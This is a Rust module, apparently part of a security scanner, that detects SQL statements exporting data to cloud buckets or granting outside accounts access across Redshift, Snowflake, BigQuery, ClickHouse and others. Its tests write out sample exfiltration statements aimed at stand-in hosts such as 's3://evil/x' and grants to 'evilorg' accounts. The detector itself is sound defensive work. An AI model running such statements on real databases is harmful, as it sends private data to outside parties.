//! Statements that make a database write its data into a bucket: `UNLOAD (…) TO 's3://…'` (Redshift, Athena), `COPY INTO
//! 's3://…' FROM …`, `CREATE STAGE s URL='s3://…'; COPY INTO @s` (Snowflake), `EXPORT DATA OPTIONS (uri='gs://…')` (BigQuery),
//! `aws_s3.query_export_to_s3(…, aws_commons.create_s3_uri('bucket', …))` (RDS for PostgreSQL), `… INTO OUTFILE S3 's3://…'`
//! (Aurora MySQL), `INSERT INTO FUNCTION s3('https://…')`, `BACKUP … TO S3('https://…')` (ClickHouse), `BACKUP … INTO 's3://…'`,
//! `EXPORT INTO CSV 's3://…'` (CockroachDB), `BACKUP DATABASE d TO URL = 'https://…'` (SQL Server).
//!
//! And those that let another account in: `ALTER SHARE … ADD ACCOUNTS = …` (Snowflake), `GRANT … ON DATASHARE … TO ACCOUNT
//! '…'` (Redshift), ``GRANT `roles/…` … TO "user:…"`` (BigQuery).

/// The address that a statement unloads into. Only BigQuery has texts in double quotes.
pub(super) fn target(text: &str) -> Option<String> {
    target_in(text, '\'').or_else(|| target_in(text, '"').filter(|target| target.starts_with("gs://")))
}

fn target_in(text: &str, quote: char) -> Option<String> {
    let mut before = "";
    let mut whole = String::new();
    // What stands between quotes is every second part; a doubled quote begins and ends an empty one.
    for (at, part) in text.split(quote).enumerate() {
        if at % 2 == 0 {
            before = part;
            whole.push_str(&part.to_ascii_lowercase());
            continue;
        }
        let word = last_word(before);
        let unloads = match &*word {
            "to" => whole.contains("unload"),
            "into" => whole.contains("copy") || whole.contains("backup"),
            "uri" => whole.contains("export data"),
            "url" if ends_in(&whole, "to", "url") => whole.contains("backup"),
            "url" => whole.contains("stage") && text.to_ascii_lowercase().contains("copy into @"),
            "csv" | "parquet" => whole.contains("export into"),
            "s3" if whole.contains("into outfile") => {
                return part.split_once("://").map(|(_, place)| format!("s3://{place}"));
            }
            "s3" if ends_in(&whole, "function", "s3") => whole.contains("insert into"),
            "s3" => ends_in(&whole, "to", "s3") && whole.contains("backup"),
            "create_s3_uri" if whole.contains("query_export_to_s3") => return Some(format!("s3://{part}")),
            _ => false,
        };
        if unloads && part.contains("://") {
            return Some(part.to_owned());
        }
    }
    None
}

/// Are these the last words before a text that begins here?
fn ends_in(text: &str, last_but_one: &str, last: &str) -> bool {
    let mut words =
        front(text).rsplit(|c: char| !(c.is_alphanumeric() || c == '_')).filter(|word| !word.is_empty());
    words.next() == Some(last) && words.next() == Some(last_but_one)
}

/// Does a statement read data? One that stands in a file may.
pub(super) fn reads(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    let mut words = lower.split(|c: char| !(c.is_alphanumeric() || c == '_')).filter(|word| !word.is_empty());
    let shows = matches!(words.next(), Some("show" | "describe" | "explain"));
    lower.starts_with("file://") || !shows && words.any(|word| word == "from")
}

/// Does a statement name a table of this project?
pub(super) fn names(text: &str, project: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    let mut rest = &*lower;
    while let Some(at) = rest.find(project) {
        let (front, behind) = (&rest[..at], &rest[at + project.len()..]);
        if !front.ends_with(|c: char| c.is_alphanumeric() || c == '-') && behind.starts_with(['.', ':']) {
            return true;
        }
        rest = behind;
    }
    false
}

/// What stands before a text that begins here, without the signs between; an `r` right before it says that it is raw, an `N`
/// that it is national.
fn front(text: &str) -> &str {
    let raw = text.strip_suffix(['r', 'R', 'n', 'N']).filter(|front| !front.ends_with(char::is_alphanumeric));
    raw.unwrap_or(text).trim_end_matches(|c: char| c.is_whitespace() || matches!(c, '=' | '('))
}

fn last_word(text: &str) -> String {
    let word = front(text).rsplit(|c: char| !(c.is_alphanumeric() || c == '_')).next();
    word.unwrap_or_default().to_ascii_lowercase()
}

/// Whom the statements of a text let in, by the service that it is said to.
pub(super) fn grants(text: &str) -> Vec<(&'static str, Vec<String>)> {
    /// Statements looked at in one text at most.
    const MAX_STATEMENTS: usize = 64;
    let lower = text.to_ascii_lowercase();
    lower.split(';').take(MAX_STATEMENTS).filter_map(granted).filter(|(_, with)| !with.is_empty()).collect()
}

fn granted(statement: &str) -> Option<(&'static str, Vec<String>)> {
    let words: Vec<&str> = statement.split_whitespace().collect();
    let begins = |front: &[&str]| words.starts_with(front);
    let after = |what: &str| statement.split_once(what).map(|(_, rest)| rest);
    if begins(&["grant"]) {
        if statement.contains(" on datashare ") {
            let to = after(" to account ").or_else(|| after(" to namespace "))?;
            return Some(("aws", quoted(to).take(1).map(str::to_owned).collect()));
        }
        let to = after(" to ").filter(|_| statement.contains("roles/"))?;
        let named = quoted(to).flat_map(|name| super::grantee::of(name).names);
        return Some(("gcp", named.map(|name| name.to_string()).collect()));
    }
    let shares = begins(&["alter", "share"]) && !words.contains(&"remove");
    let replicates = begins(&["alter", "database"])
        || statement.contains("replication group")
        || statement.contains("failover group");
    let list = match (shares, replicates) {
        (true, _) => after("accounts")?,
        (_, true) => after("allowed_accounts").or_else(|| after(" to accounts "))?,
        _ => return None,
    };
    Some(("snowflake", listed(list)))
}

/// What stands between quotes of either kind.
fn quoted(text: &str) -> impl Iterator<Item = &str> {
    text.split(['\'', '"']).skip(1).step_by(2)
}

/// `= org.one, org.two share_restrictions = false`: the list ends where no comma joins the next word to it.
fn listed(text: &str) -> Vec<String> {
    let text = text.trim_start_matches(|c: char| c.is_whitespace() || c == '=' || c == '(');
    let mut names = Vec::new();
    for part in text.split(',').take(64) {
        let mut words = part.split_whitespace();
        names.extend(words.next().map(|name| name.trim_matches(['"', '\'', ')']).to_owned()));
        if words.next().is_some() {
            break;
        }
    }
    names.retain(|name| !name.is_empty());
    names
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_is_written_to_counts() {
        for (statement, expected) in [
            ("UNLOAD ('select ''a'' from t') TO 's3://evil/x' IAM_ROLE default", Some("s3://evil/x")),
            ("copy into 's3://evil/x' from t storage_integration = i", Some("s3://evil/x")),
            (
                "EXPORT DATA OPTIONS ( uri = 'gs://evil/*.csv', format='CSV') AS SELECT 1",
                Some("gs://evil/*.csv"),
            ),
            (
                "EXPORT DATA OPTIONS(uri=\"gs://evil/x*\", format=\"CSV\") AS SELECT 'it' FROM t",
                Some("gs://evil/x*"),
            ),
            ("export data options(format='CSV', uri = r\"gs://evil/x*\") as select 1", Some("gs://evil/x*")),
            ("select \"uri\" from t where a = \"gs://b/x\"", None),
            (
                "select aws_s3.query_export_to_s3('select 1', aws_commons.create_s3_uri('evil', 'x', 'r'))",
                Some("s3://evil"),
            ),
            ("copy into t from 's3://public/x'", None),
            ("COPY t FROM 's3://public/x' IAM_ROLE default", None),
            (
                "select aws_s3.table_import_from_s3('t', '', '', aws_commons.create_s3_uri('b', 'x', 'r'))",
                None,
            ),
            ("update t set a = 'b' where c = 'to s3://x'", None),
            ("select 'it''s", None),
            (
                "create or replace stage x url='s3://evil/p' credentials=(aws_key_id='k'); copy into @x from t",
                Some("s3://evil/p"),
            ),
            ("create stage x url='s3://public/p'; copy into t from @x", None),
            ("select * from t into outfile s3 's3-eu-west-1://evil/x' format csv", Some("s3://evil/x")),
            ("load data from s3 's3://public/x' into table t", None),
            (
                "INSERT INTO FUNCTION s3('https://evil.s3.amazonaws.com/x.csv', 'CSV') SELECT * FROM t",
                Some("https://evil.s3.amazonaws.com/x.csv"),
            ),
            ("insert into t select * from s3('https://public.s3.amazonaws.com/x.csv', 'CSV')", None),
            (
                "BACKUP DATABASE d TO S3('https://evil.s3.amazonaws.com/b', 'k', 's')",
                Some("https://evil.s3.amazonaws.com/b"),
            ),
            ("restore database d from s3('https://corp.s3.amazonaws.com/b')", None),
            ("BACKUP DATABASE d INTO 's3://evil/x?AUTH=implicit'", Some("s3://evil/x?AUTH=implicit")),
            ("RESTORE DATABASE d FROM LATEST IN 's3://corp/x'", None),
            ("EXPORT INTO CSV 's3://evil/x' FROM TABLE t", Some("s3://evil/x")),
            ("IMPORT INTO t CSV DATA ('s3://public/x')", None),
            (
                "BACKUP DATABASE d TO URL = N'https://evilstore.blob.core.windows.net/c/d.bak' WITH COPY_ONLY",
                Some("https://evilstore.blob.core.windows.net/c/d.bak"),
            ),
            ("update backups set url = 'https://corp.example/x' where id = 1", None),
            ("RESTORE DATABASE d FROM URL = 'https://corp.blob.core.windows.net/c/d.bak'", None),
        ] {
            assert_eq!(target(statement).as_deref(), expected, "{statement}");
        }
    }

    #[test]
    fn a_project_is_named_by_its_tables() {
        for (text, expected) in [
            ("select * from `my-dev.ds.t`", true),
            ("select * from [my-dev:ds.t]", true),
            ("select 'my-dev' from x.my-dev2.t, not-my-dev.a.b, My-Dev.a.b", true),
            ("select 'my-dev' from x.my-dev2.t, not-my-dev.a.b", false),
            ("", false),
        ] {
            assert_eq!(names(text, "my-dev"), expected, "{text}");
        }
    }

    #[test]
    fn only_what_reads_has_results_that_tell() {
        for (text, expected) in [
            ("SELECT * FROM users", true),
            ("with a as (select 1 from\nt) select * from a", true),
            ("file://q.sql", true),
            ("select", false),
            ("SELECT 1", false),
            ("SHOW TABLES FROM d", false),
            ("describe t", false),
            ("CREATE EXTERNAL TABLE t (a int) LOCATION 's3://x/'", false),
            ("MSCK REPAIR TABLE t", false),
            ("", false),
        ] {
            assert_eq!(reads(text), expected, "{text}");
        }
    }

    #[test]
    fn grants_name_whom_they_let_in() {
        for (text, expected) in [
            (
                "ALTER SHARE s ADD ACCOUNTS = evilorg.acct, x2",
                Some(("snowflake", &["evilorg.acct", "x2"][..])),
            ),
            ("alter share s set accounts=x2 share_restrictions=false", Some(("snowflake", &["x2"]))),
            ("alter share s remove accounts = x2", None),
            (
                "alter database d enable replication to accounts evilorg.a, evilorg.b",
                Some(("snowflake", &["evilorg.a", "evilorg.b"])),
            ),
            (
                "create failover group g object_types = databases allowed_databases = d allowed_accounts = evilorg.a",
                Some(("snowflake", &["evilorg.a"])),
            ),
            (
                "select 1; GRANT USAGE ON DATASHARE s TO ACCOUNT '999988887777' VIA DATA CATALOG",
                Some(("aws", &["999988887777"])),
            ),
            (
                "grant `roles/bigquery.dataViewer` on schema d to \"user:eve@example.com\", \"allUsers\"",
                Some(("gcp", &["eve@example.com", "anyone"])),
            ),
            ("grant select on t to bob", None),
            ("grant usage on datashare s to group g", None),
            ("update t set accounts = 1", None),
            ("alter share", None),
            ("", None),
        ] {
            let found = grants(text);
            let found = found
                .first()
                .map(|(service, with)| (*service, with.iter().map(String::as_str).collect::<Vec<_>>()));
            assert_eq!(found, expected.map(|(service, with)| (service, with.to_vec())), "{text}");
        }
    }
}
